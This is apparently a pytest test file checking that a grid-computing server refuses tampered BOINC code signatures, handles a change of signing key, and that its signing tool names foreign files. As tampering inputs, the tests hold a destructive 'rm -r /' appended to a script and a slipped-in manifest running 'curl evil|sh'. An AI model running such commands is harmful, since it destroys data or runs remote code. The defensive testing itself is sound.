"""What is signed away from the server, and the change of the code signing key."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey, RSAPublicNumbers
from psycopg.types.json import Jsonb
from tests.boinc_captures import NAMES
from tests.boinc_slot import until
from tests.factories import make_bot, make_key, make_lease, make_owner, submission
from tests.http.boinc_site import SECOND, Site, hostid, opened
from tests.http.conftest import Person
from tests.http.loopback import serve

from gridbot.cli import gridbot
from gridbot_client.protocol.messages import FileRef, Manifest, ReplicaId, manifest_id
from gridbot_server.boinc.application import code_keys, code_signatures, signed
from gridbot_server.boinc.application.code_keys import Chain
from gridbot_server.boinc.application.signed import SignedApplication
from gridbot_server.boinc.protocol.names import Lease
from gridbot_server.boinc.protocol.tags import Section
from gridbot_server.commands import first_start
from gridbot_server.settings import Settings
from gridbot_server.signing import keys as native_keys
from gridbot_server.signing.keys import KeyFileError
from gridbot_server.storage import db
from gridbot_server.web.app import create_app

OLD, NEW = code_keys.generate(), code_keys.generate()
DATA = FileRef("data", hashlib.sha256(b"data").hexdigest(), 4)
MANIFEST = Manifest("ann", ("wc", "{i}", "data"), {"i": "int"}, inputs=(DATA,))


@pytest.fixture
def site(settings: Settings, conn: db.Connection) -> Iterator[Site]:
    """A server that was given public keys only."""
    write(settings.boinc_public_path, code_keys.public_text(OLD.public_key()))
    native = settings.data / "elsewhere"
    native_keys.create(native)
    write(settings.project_public_path, native_keys.public_text(native_keys.load_private(native)))
    yield from opened(settings, conn)


@pytest.fixture
def ann(site: Site) -> Person:
    owner = make_owner(site.conn, "ann")
    person = Person(site.app, make_key(site.conn, owner, "user"), owner, "ann")
    stored = person("PUT", f"/api/v1/blobs/{DATA.sha256}?offset=0&size=4", data=b"data")
    assert stored.status_code == 200
    return person


@pytest.fixture
def olga(site: Site) -> Person:
    owner = make_owner(site.conn, "olga", operator=True)
    return Person(site.app, make_key(site.conn, owner, "operator"), owner, "olga")


def write(path: Path, text: str) -> None:
    path.write_text(text)


def md5(_: FileRef) -> str:
    return hashlib.md5(b"data").hexdigest()


def signed_by(private: RSAPrivateKey, manifest: Manifest = MANIFEST) -> dict[str, Any]:
    return signed.sign(manifest, md5, private).document()


def lend(site: Site, ann: Person, manifest: Manifest = MANIFEST) -> Lease:
    """Let a new stock client hold a replica of an unsigned BOT."""
    client = hostid(site.ask())
    replica = ReplicaId(make_bot(site.conn, ann.id, 3, manifest=manifest.text()), 2, 1)
    make_lease(site.conn, replica, client)
    return Lease(replica, client)


def state(site: Site) -> list[Any]:
    """All that signing changes."""
    columns = "id, boinc, boinc_unsuitable, policy_version"
    bots = site.rows(f"SELECT {columns} FROM bot ORDER BY id")
    return [bots, site.rows("SELECT value FROM setting WHERE name = 'boinc_chain'")]


def files(reply: Section) -> list[tuple[str, str]]:
    """MD5 and signature of the files that a client may download."""
    found = [
        (item.text("md5_cksum"), item.raw("file_signature")) for item in reply.all("file_info")
    ]
    return [(md5, signature) for md5, signature in found if signature]


def key_in(reply: Section) -> str:
    """The key that a client is to take."""
    return reply.raw("code_sign_key").strip()


def all_signed(private: RSAPrivateKey, reply: Section) -> bool:
    return all(code_signatures.is_signed(private.public_key(), *file) for file in files(reply))


# ------------------------------------------------------------------------------------- applications


def test_a_server_needs_no_private_key(site: Site) -> None:
    assert not site.settings.boinc_key_path.exists()
    assert not site.settings.project_key_path.exists()
    assert key_in(site.ask()) == code_keys.public_text(OLD.public_key())
    first_start.prepare(site.settings)


def test_a_bot_that_was_signed_elsewhere_reaches_a_stock_client(site: Site, ann: Person) -> None:
    lease = lend(site, ann)
    assert site.ask().all("result") == []
    path = f"/api/v1/bots/{lease.replica.bot}"
    answer = ann("PUT", f"{path}/boinc", json=signed_by(OLD))
    assert (answer.status_code, answer.json["signed_for_boinc"]) == (200, True), answer.json
    assert ann("GET", path).json["signed_for_boinc"] is True
    reply = site.ask()
    (result,) = reply.all("result")
    assert result.text("name") == NAMES.replica(lease)
    assert len(files(reply)) == 2
    assert all_signed(OLD, reply)
    script = reply.all("file_info")[0]
    fetched = site.get("download/" + script.text("name"))
    assert hashlib.md5(fetched.data).hexdigest() == script.text("md5_cksum")


def test_dispatch_hears_of_it_by_the_version(site: Site, ann: Person) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text(), boinc_unsuitable="no key")
    for version in (2, 3):
        assert ann("PUT", f"/api/v1/bots/{bot}/boinc", json=signed_by(OLD)).status_code == 200
        query = "SELECT policy_version, boinc_unsuitable FROM bot WHERE id = %s"
        assert site.rows(query, bot) == [(version, None)]


def tampered() -> dict[str, dict[str, Any]]:
    good = signed_by(OLD)
    script = next(sha256 for sha256 in good["signatures"] if sha256 != DATA.sha256)
    swapped = dict(zip(good["signatures"], reversed(good["signatures"].values()), strict=True))
    text = good["signatures"][DATA.sha256]
    flipped = ("1" if text[0] == "0" else "0") + text[1:]
    return {
        "another key": signed_by(NEW),
        "a changed script": {**good, "script": good["script"] + "rm -r /\n"},
        "a changed digit": {**good, "signatures": {**good["signatures"], DATA.sha256: flipped}},
        "signatures of other files": {**good, "signatures": swapped},
        "an input without": {**good, "signatures": {script: good["signatures"][script]}},
        "another BOT's": signed_by(OLD, replace(MANIFEST, command=("rm", "{i}"))),
        "no signatures": {**good, "signatures": {}},
        "no hex": {**good, "signatures": {**good["signatures"], DATA.sha256: "zz"}},
        "a NUL": {**good, "script": good["script"] + "\0"},
        "half a character": {**good, "script": good["script"] + "\ud800"},
        "no text": {**good, "script": 1},
        "more": {**good, "else": 1},
        "nothing": {},
    }


@pytest.mark.parametrize("kind", tampered())
def test_what_the_key_did_not_sign_changes_nothing(site: Site, ann: Person, kind: str) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    before = state(site)
    body = json.dumps(tampered()[kind])
    path, kind_of = f"/api/v1/bots/{bot}/boinc", "application/json"
    answer = ann("PUT", path, data=body, content_type=kind_of)
    assert answer.status_code == 400, answer.json
    assert state(site) == before
    assert ann("PUT", path, json=signed_by(OLD)).status_code == 200


def test_a_data_files_signature_makes_it_nobodys_script(site: Site, ann: Person) -> None:
    other = Manifest("ann", ("true",))
    script = f"#!/bin/sh\n# Manifest {manifest_id(other.text())}\ntouch evil\n"
    signature = code_signatures.sign_md5(OLD, code_signatures.md5_hex(script.encode()))
    bot = make_bot(site.conn, ann.id, manifest=other.text())
    signatures = {hashlib.sha256(script.encode()).hexdigest(): signature}
    body = {"script": script, "signatures": signatures}
    before = state(site)
    answer = ann("PUT", f"/api/v1/bots/{bot}/boinc", json=body)
    assert (answer.status_code, "the script is not this BOT's" in answer.json["detail"]) == (
        400,
        True,
    )
    assert state(site) == before


def test_an_operator_brings_the_signatures_of_others_bots(
    site: Site, ann: Person, olga: Person
) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    assert olga("PUT", f"/api/v1/bots/{bot}/boinc", json=signed_by(OLD)).status_code == 200


def test_the_files_to_sign_are_a_bots_own(site: Site, ann: Person) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    path = f"/api/v1/bots/{bot}/inputs"
    assert ann("GET", f"{path}/{DATA.sha256}").data == b"data"
    assert ann("GET", f"{path}/{'0' * 64}").status_code == 404


@pytest.mark.parametrize(
    ("args", "inputs", "why"),
    [
        ({"i": "é" * 1000}, None, "put them into an input file"),
        ({"i": "1"}, [{**asdict(DATA), "executable": True}], "is a program"),
    ],
)
def test_one_job_that_stock_clients_cannot_run_keeps_the_bot_from_them(
    site: Site, ann: Person, args: dict[str, Any], inputs: Any, why: str
) -> None:
    manifest = replace(MANIFEST, placeholders={"i": "text"})
    bot = make_bot(site.conn, ann.id, 3, manifest=manifest.text())
    values = [Jsonb(args), Jsonb(inputs) if inputs else None, bot]
    site.conn.execute("UPDATE job SET args = %s, inputs = %s WHERE bot = %s AND seq = 2", values)
    before = state(site)
    answer = ann("PUT", f"/api/v1/bots/{bot}/boinc", json=signed_by(OLD, manifest))
    assert answer.status_code == 409
    assert why in answer.json["detail"]
    assert state(site) == before


def test_jobs_are_looked_at_for_a_signature_only_and_once(site: Site, ann: Person) -> None:
    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
    fresh, offered = (f"/api/v1/bots/{bot}/boinc" for bot in bots)
    assert ann("PUT", offered, json=signed_by(OLD)).status_code == 200
    with site.conn.transaction():
        site.conn.execute("LOCK TABLE job")  # whoever looked would not come back
        assert ann("PUT", fresh, json={"script": "x", "signatures": {}}).status_code == 400
        assert ann("PUT", fresh, json=signed_by(NEW)).status_code == 400
        assert ann("PUT", offered, json=signed_by(OLD)).status_code == 200


def test_the_jobs_of_one_bot_are_looked_at_at_a_time(site: Site, ann: Person) -> None:
    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
    first, second = (f"/api/v1/bots/{bot}/boinc" for bot in bots)
    waiting = "SELECT count(*) FROM pg_locks WHERE NOT granted AND relation = 'job'::regclass"
    with ThreadPoolExecutor(1) as others:
        with site.conn.transaction():
            site.conn.execute("LOCK TABLE job")
            slow = others.submit(ann, "PUT", first, json=signed_by(OLD))
            until(lambda: site.rows(waiting) == [(1,)])
            refused = ann("PUT", second, json=signed_by(OLD))
            assert (refused.status_code, refused.json["retry"]) == (503, True)
        assert slow.result().status_code == 200
    assert ann("PUT", second, json=signed_by(OLD)).status_code == 200


def test_a_bot_is_signed_when_its_jobs_are_all_there(site: Site, ann: Person) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text(), state="open")
    answer = ann("PUT", f"/api/v1/bots/{bot}/boinc", json=signed_by(OLD))
    assert (answer.status_code, "still waits for jobs" in answer.json["detail"]) == (409, True)


def test_stock_clients_get_no_second_version_of_a_bot(site: Site, ann: Person) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text(), manifest_version=2)
    answer = ann("PUT", f"/api/v1/bots/{bot}/boinc", json=signed_by(OLD))
    assert (answer.status_code, "keep the first version" in answer.json["detail"]) == (409, True)


# --------------------------------------------------------------------------------------------- keys


def change_key(person: Person, old: RSAPrivateKey, new: RSAPrivateKey) -> Any:
    link = code_signatures.introduce(old, new.public_key())
    return person("PUT", "/api/v1/boinc/key", json=link._asdict())


def test_a_client_with_jobs_takes_the_next_key_once_these_are_signed_with_it(
    site: Site, ann: Person, olga: Person
) -> None:
    lease = lend(site, ann)
    path = f"/api/v1/bots/{lease.replica.bot}/boinc"
    ann("PUT", path, json=signed_by(OLD))
    assert all_signed(OLD, site.ask())
    assert change_key(olga, OLD, NEW).json == {"unsigned": [lease.replica.bot]}

    old = code_keys.public_text(OLD.public_key())
    holding = site.request(SECOND, hostid=lease.client, code_sign_key=f"\n{old}\n")
    held = site.ask(SECOND, holding, rpc_seqno=100)
    assert key_in(held) == ""
    assert held.all("result") == []

    assert ann("PUT", path, json=signed_by(NEW)).status_code == 200
    led = site.ask(SECOND, holding, rpc_seqno=101)
    link = Chain.from_text(site.rows("SELECT value FROM setting WHERE name = 'boinc_chain'")[0][0])
    assert key_in(led) == link.newest == code_keys.public_text(NEW.public_key())
    signature = led.raw("code_sign_key_signature")
    assert code_signatures.is_signed(
        OLD.public_key(), code_signatures.md5_hex(link.newest.encode()), signature
    )
    assert len(files(led)) == 2
    assert all_signed(NEW, led)


def test_a_new_client_gets_the_new_key_and_only_what_it_signed(
    site: Site, ann: Person, olga: Person
) -> None:
    lease = lend(site, ann)
    path = f"/api/v1/bots/{lease.replica.bot}"
    ann("PUT", f"{path}/boinc", json=signed_by(OLD))
    change_key(olga, OLD, NEW)
    assert "was changed since" in ann("GET", path).json["boinc_unsuitable"]
    assert site.ask().all("result") == []
    assert ann("PUT", f"{path}/boinc", json=signed_by(OLD)).status_code == 400
    ann("PUT", f"{path}/boinc", json=signed_by(NEW))
    reply = site.ask()
    assert key_in(reply) == code_keys.public_text(NEW.public_key())
    assert len(reply.all("result")) == 1
    assert all_signed(NEW, reply)


def test_changing_the_key_twice_changes_it_once(site: Site, ann: Person, olga: Person) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    done = make_bot(site.conn, ann.id, manifest=MANIFEST.text(), state="done")
    for number in (bot, done):
        assert ann("PUT", f"/api/v1/bots/{number}/boinc", json=signed_by(OLD)).status_code == 200
    assert change_key(olga, OLD, NEW).json == {"unsigned": [bot]}
    before = state(site)
    assert change_key(olga, OLD, NEW).json == {"unsigned": [bot]}
    assert state(site) == before
    ann("PUT", f"/api/v1/bots/{bot}/boinc", json=signed_by(NEW))
    assert change_key(olga, OLD, NEW).json == {"unsigned": []}
    first_start.prepare(site.settings)


@pytest.mark.parametrize("kind", ["stranger", "tampered", "weak", "garbage", "back"])
def test_a_key_that_clients_would_not_follow_is_refused(
    site: Site, olga: Person, kind: str
) -> None:
    if kind == "back":
        assert change_key(olga, OLD, NEW).status_code == 200
    link = code_signatures.introduce(OLD, NEW.public_key())
    weak = RSAPublicNumbers(3, NEW.public_key().public_numbers().n).public_key()
    bodies = {
        "stranger": (
            code_signatures.introduce(NEW, NEW.public_key()),
            "is not signed by the key in use",
        ),
        "tampered": (link._replace(signature=link.signature[::-1]), "is not signed by the key"),
        "weak": (code_signatures.introduce(OLD, weak), "has the exponent 3"),
        "garbage": (link._replace(key="00"), "is not a key in BOINC's form"),
        "back": (code_signatures.introduce(NEW, OLD.public_key()), "has been in use before"),
    }
    body, why = bodies[kind]
    before = state(site)
    answer = olga("PUT", "/api/v1/boinc/key", json=body._asdict())
    assert answer.status_code == 400
    assert answer.json["detail"].startswith(f"key: {why}")
    assert state(site) == before


def test_only_an_operator_changes_the_key(site: Site, ann: Person) -> None:
    assert change_key(ann, OLD, NEW).status_code == 403


def test_a_private_key_that_was_replaced_signs_nothing_at_submission(
    settings: Settings, conn: db.Connection
) -> None:
    first_start.prepare(settings)
    app = create_app(replace(settings, sign_on_submit=True))
    owner = make_owner(conn, "olga", operator=True)
    olga = Person(app, make_key(conn, owner, "operator"), owner, "olga")
    mine = code_keys.load_private(settings.boinc_key_path)
    assert change_key(olga, mine, NEW).status_code == 200

    def unsuitable() -> str | None:
        bot = olga("POST", "/api/v1/bots", json=submission()).json["id"]
        shown: str | None = olga("GET", f"/api/v1/bots/{bot}").json["boinc_unsuitable"]
        return shown

    assert "boinc.key on this server is not the code signing key in use" in str(unsuitable())
    write(settings.boinc_key_path, code_keys.private_text(NEW))
    assert unsuitable() is None
    app.extensions["gridbot"].close()


# ---------------------------------------------------------------------------------------- the start


def test_a_public_key_that_is_not_the_projects_stops_the_start(
    settings: Settings, conn: db.Connection
) -> None:
    first_start.prepare(settings)
    write(settings.boinc_public_path, code_keys.public_text(OLD.public_key()))
    with pytest.raises(KeyFileError, match=r"boinc\.pub is no key that BOINC clients were led to"):
        first_start.prepare(settings)
    settings.boinc_public_path.unlink()
    other = settings.data / "other"
    native_keys.create(other)
    write(settings.project_public_path, native_keys.public_text(native_keys.load_private(other)))
    with pytest.raises(KeyFileError, match=r"project\.pub is not this project's key"):
        first_start.prepare(settings)


def test_a_server_without_the_private_key_cannot_sign_at_submission(site: Site) -> None:
    with pytest.raises(KeyFileError, match="start with --no-sign-on-submit"):
        first_start.prepare(replace(site.settings, sign_on_submit=True))


# -------------------------------------------------------------------------------------- the command


@dataclass(frozen=True)
class Desk:
    """Somebody's terminal; with a URL of no server it is a machine off the network."""

    url: str
    token: str
    home: Path

    def __call__(self, *arguments: object, code: int = 0, answer: str = "") -> Result:
        environment = {
            "GRIDBOT_SERVER": self.url,
            "GRIDBOT_KEY": self.token,
            "XDG_CONFIG_HOME": str(self.home),
        }
        found = CliRunner(env=environment).invoke(gridbot, [*map(str, arguments)], answer)
        assert found.exit_code == code, found.output
        return found


@pytest.fixture
def desk(site: Site, olga: Person, tmp_path: Path) -> Iterator[Desk]:
    with serve(site.app) as url:
        yield Desk(url, olga.token, tmp_path)


@pytest.fixture
def vault(tmp_path: Path) -> Path:
    """The private keys, as files of a machine that the server never sees."""
    folder = tmp_path / "vault"
    folder.mkdir()
    write(folder / "old.key", code_keys.private_text(OLD))
    write(folder / "new.key", code_keys.private_text(NEW))
    write(folder / "new.pub", code_keys.public_text(NEW.public_key()))
    return folder


def is_signed(site: Site, bot: int) -> bool:
    return bool(site.rows("SELECT boinc IS NOT NULL FROM bot WHERE id = %s", bot)[0][0])


def test_a_bot_goes_to_the_keys_and_back_in_a_folder(
    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    folder, away = tmp_path / "parcel", replace(desk, url="http://127.0.0.1:1")
    native = ("--project-key", site.settings.data / "elsewhere")
    desk("app", "fetch", bot, "--to", folder)
    sign = ("app", "sign", folder, *native, "--boinc-key", vault / "old.key")
    signing_it = away(*sign, answer="y\n")
    for shown in (f"BOT {bot} of ann", "command wc '{i}' data", f"input   {DATA.sha256}  data"):
        assert shown in signing_it.stderr
    assert not is_signed(site, bot)
    assert f"bot {bot}: signed\n" in desk("app", "send", folder).stdout
    shown = ann("GET", f"/api/v1/bots/{bot}").json
    assert (shown["signed"], shown["signed_for_boinc"]) == (True, True)


def test_one_command_signs_a_bot_for_boinc_clients(
    site: Site, ann: Person, desk: Desk, vault: Path
) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    wrong = desk("app", "sign", bot, "--yes", "--boinc-key", vault / "new.key", code=4)
    assert "not signed by the code signing key" in wrong.stderr
    assert not is_signed(site, bot)
    assert desk("app", "sign", bot, "--yes", "--boinc-key", vault / "old.key").stdout == (
        f"bot {bot}: signed\n"
    )
    assert is_signed(site, bot)


def test_nothing_is_signed_before_whoever_signs_has_seen_it(
    site: Site, ann: Person, desk: Desk, vault: Path
) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    sign = ("app", "sign", bot, "--boinc-key", vault / "old.key")
    shown = desk(*sign, code=1, answer="n\n")
    assert "command wc '{i}' data" in shown.stderr
    assert not is_signed(site, bot)
    desk(*sign, answer="y\n")
    assert is_signed(site, bot)


def test_each_bot_of_a_folder_is_asked_for_and_nobody_signs_by_saying_nothing(
    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
) -> None:
    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
    folder = tmp_path / "parcel"
    desk("app", "fetch", *bots, "--to", folder)
    sign = ("app", "sign", folder, "--boinc-key", vault / "old.key")
    said = desk(*sign, code=1).stderr
    assert f"BOT {bots[0]} is not signed: confirm at a terminal, or check it and add --yes" in said
    assert list(folder.glob("*.signed.json")) == []
    assert (
        f"bot {bots[0]}: not signed: not confirmed" in desk(*sign, code=1, answer="n\ny\n").stderr
    )
    desk("app", "send", folder)
    assert [is_signed(site, bot) for bot in bots] == [False, True]


def test_a_program_and_what_fills_the_command_are_shown(
    site: Site, ann: Person, desk: Desk, vault: Path
) -> None:
    program = replace(DATA, executable=True)
    manifest = Manifest("ann", ("./data", "{i}"), {"i": "text"}, inputs=(program,))
    bot = make_bot(site.conn, ann.id, manifest=manifest.text())
    shown = desk("app", "sign", bot, "--yes", "--boinc-key", vault / "old.key").stderr
    assert shown.splitlines() == [
        f"BOT {bot} of ann",
        "command ./data '{i}'",
        "filled  {i} with any text of each job",
        f"input   {DATA.sha256}  data  (a program)",
    ]


def test_a_bot_that_was_slipped_into_the_folder_is_named_and_nothing_is_signed(
    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
) -> None:
    bot, folder = make_bot(site.conn, ann.id, manifest=MANIFEST.text()), tmp_path / "parcel"
    desk("app", "fetch", bot, "--to", folder)
    evil = Manifest("ada", ("sh", "-c", "curl evil|sh"))
    write(folder / "bot-99.json", json.dumps({"manifest": evil.text()}))
    said = desk("app", "sign", folder, "--yes", "--boinc-key", vault / "old.key", code=1).stderr
    assert "not fetched with it: bot-99.json" in said
    assert list(folder.glob("*.signed.json")) == []


def test_the_command_changes_keys_and_signs_what_is_unfinished(
    site: Site, ann: Person, desk: Desk, vault: Path
) -> None:
    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
    for bot in bots:
        desk("app", "sign", bot, "--yes", "--boinc-key", vault / "old.key")
    options = ("--boinc-key", vault / "old.key", "--new-key")
    told = desk("app", "rotate", *options, vault / "new.pub").stdout
    assert [f"gridbot app sign {bot} --boinc-key NEW" in told for bot in bots] == [True, True]
    assert not any(is_signed(site, bot) for bot in bots)
    told = desk("app", "rotate", "--yes", *options, vault / "new.key").stdout
    assert [f"bot {bot}: signed\n" in told for bot in bots] == [True, True]
    assert all(is_signed(site, bot) for bot in bots)


def test_a_change_of_keys_is_signed_off_the_network(
    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
) -> None:
    bot = make_bot(site.conn, ann.id, manifest=MANIFEST.text())
    desk("app", "sign", bot, "--yes", "--boinc-key", vault / "old.key")
    folder, away = tmp_path / "parcel", replace(desk, url="http://127.0.0.1:1")
    desk("app", "fetch", bot, "--to", folder)
    options = ("--boinc-key", vault / "old.key", "--new-key", vault / "new.pub")
    away("app", "rotate", *options, "--to", folder)
    away("app", "sign", folder, "--yes", "--boinc-key", vault / "new.key")
    told = desk("app", "send", folder).stdout
    assert told == f"the server now announces the new key to BOINC clients\nbot {bot}: signed\n"
    assert key_in(site.ask()) == code_keys.public_text(NEW.public_key())
    text = site.rows("SELECT boinc FROM bot WHERE id = %s", bot)[0][0]
    signed.check(MANIFEST, SignedApplication.from_text(text), md5, NEW.public_key())


def test_a_bot_that_cannot_be_signed_does_not_hold_up_the_others(
    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
) -> None:
    unsuitable = replace(MANIFEST, platforms=("windows-arm64",))
    bots = [
        make_bot(site.conn, ann.id, manifest=manifest.text()) for manifest in (unsuitable, MANIFEST)
    ]
    folder = tmp_path / "parcel"
    desk("app", "fetch", *bots, "--to", folder)
    told = desk("app", "sign", folder, "--yes", "--boinc-key", vault / "old.key", code=1).stderr
    assert f"bot {bots[0]}: unsuitable for BOINC clients: no stock client is served on" in told
    assert "1 of 2 BOTs are not signed" in told
    desk("app", "send", folder)
    assert [is_signed(site, bot) for bot in bots] == [False, True]


def test_keys_are_made_once_and_their_public_halves_make_a_server(
    desk: Desk, settings: Settings, conn: db.Connection, tmp_path: Path
) -> None:
    folder = tmp_path / "made"
    desk("app", "keys", folder)
    assert {path.name for path in folder.glob("*.key") if path.stat().st_mode & 0o77} == set()
    assert "exists and is never overwritten" in desk("app", "keys", folder, code=1).stderr
    boinc, secret = code_keys.load_pair(folder / "boinc.pub")
    private = code_keys.load_private(folder / "boinc.key")
    assert (code_keys.public_text(boinc), secret) == (
        code_keys.public_text(private.public_key()),
        None,
    )
    native = native_keys.load_public(folder / "project.pub")
    assert native == native_keys.public_bytes(folder / "project.key")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ("", "is not a key in BOINC's form"),
        ("é", "is not text"),
        ("1024\n00\n.", "has 2 hex digits"),
    ],
)
def test_what_is_no_key_is_refused_by_its_file(
    desk: Desk, vault: Path, content: str, why: str
) -> None:
    bad = vault / "bad.key"
    bad.write_text(content)
    for arguments in (
        ("sign", "1", "--boinc-key", bad),
        ("rotate", "--boinc-key", bad, "--new-key", vault / "new.key"),
        ("rotate", "--boinc-key", vault / "old.key", "--new-key", bad),
    ):
        said = desk("app", *arguments, code=1).stderr
        assert said.startswith(f"gridbot: {bad}: {why}")
        assert said.count("\n") == 1


def test_signing_needs_a_key_to_sign_with(desk: Desk) -> None:
    assert "--project-key, --boinc-key or both" in desk("app", "sign", "folder", code=2).stderr
